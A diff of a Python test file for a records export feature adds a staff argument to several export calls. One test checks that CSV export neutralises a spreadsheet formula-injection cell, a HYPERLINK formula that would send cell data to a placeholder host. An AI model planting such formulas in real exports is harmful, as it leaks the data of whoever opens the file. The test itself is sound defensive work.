@@ -76,7 +76,7 @@ def test_date_ranges_include_both_end_days(db: Database) -> None:
 
 
 def test_csv_has_a_bom_one_row_each_and_the_key_columns(db: Database, tmp_path: Path) -> None:
-    result = run_export(db, "csv", tmp_path / "out.csv", inputs())
+    result = run_export(db, "csv", tmp_path / "out.csv", inputs(), staff="MJ")
     rows = read_csv(result.path)
     assert result.count == len(rows) == 6
     first = rows[0]
@@ -107,7 +107,7 @@ def test_csv_neutralises_cells_a_spreadsheet_would_run(db: Database, tmp_path: P
     )
     results = tuple(r for r in document.check_results if r.check_id != "device.os")
     repository.import_document(db, replace(document, check_results=(*results, hostile)))
-    rows = read_csv(run_export(db, "csv", tmp_path / "out.csv", inputs()).path)
+    rows = read_csv(run_export(db, "csv", tmp_path / "out.csv", inputs(), staff="MJ").path)
     cell = next(r for r in rows if r["service_user_code"] == "INJ-1")["os_name"]
     assert cell == "'" + '=HYPERLINK("http://x.example/?"&A1,"click")'
 
@@ -122,7 +122,7 @@ def test_a_cancelled_export_leaves_no_file(db: Database, tmp_path: Path) -> None
     cancel = CancelToken()
     cancel.cancel()
     with pytest.raises(Cancelled):
-        run_export(db, "csv", tmp_path / "out.csv", inputs(), cancel=cancel)
+        run_export(db, "csv", tmp_path / "out.csv", inputs(), staff="MJ", cancel=cancel)
     assert not (tmp_path / "out.csv").exists()
     assert not list(tmp_path.glob(".readiness-*"))
 
@@ -131,7 +131,7 @@ def test_a_cancelled_export_leaves_no_file(db: Database, tmp_path: Path) -> None
 
 
 def test_json_export_round_trips_through_import(db: Database, tmp_path: Path) -> None:
-    result = run_export(db, "json", tmp_path / "out.json", inputs())
+    result = run_export(db, "json", tmp_path / "out.json", inputs(), staff="MJ")
     data = json.loads(result.path.read_text(encoding="utf-8"))
     assert isinstance(data, list) and len(data) == 6
     assert "Llamar a la hermana de la señora Núñez" in result.path.read_text(encoding="utf-8")
@@ -150,7 +150,7 @@ def test_json_export_round_trips_through_import(db: Database, tmp_path: Path) ->
 
 
 def test_fhir_export_is_valid_ndjson_of_transaction_bundles(db: Database, tmp_path: Path) -> None:
-    result = run_export(db, "fhir", tmp_path / "out.ndjson", inputs(), validation="all")
+    result = run_export(db, "fhir", tmp_path / "out.ndjson", inputs(), staff="MJ", validation="all")
     lines = result.path.read_text(encoding="utf-8").splitlines()
     assert len(lines) == result.count == 6
     assert "6 of 6 bundles checked" in ENGLISH.render(result.notes[0])
@@ -224,6 +224,7 @@ def test_summary_file_is_de_identified_and_suppressed(db: Database, tmp_path: Pa
         tmp_path / "summary.csv",
         inputs(),
         DateRange(BASE_TIME.date(), date(2026, 12, 31)),
+        staff="MJ",
     )
     text = result.path.read_text(encoding="utf-8-sig")
     rows = read_csv(result.path)
@@ -250,7 +251,9 @@ def test_summary_file_is_de_identified_and_suppressed(db: Database, tmp_path: Pa
 
 def test_the_spanish_summary_has_no_english_codes(db: Database, tmp_path: Path) -> None:
     dates = DateRange(BASE_TIME.date(), date(2026, 12, 31))
-    path = run_export(db, "summary", tmp_path / "resumen.csv", inputs(), dates, locale="es").path
+    path = run_export(
+        db, "summary", tmp_path / "resumen.csv", inputs(), dates, locale="es", staff="MJ"
+    ).path
     text = path.read_text(encoding="utf-8-sig")
     rows = list(csv.reader(io.StringIO(text)))
     assert rows[0] == ["sección", "elemento", "categoría", "conteo", "porcentaje"]
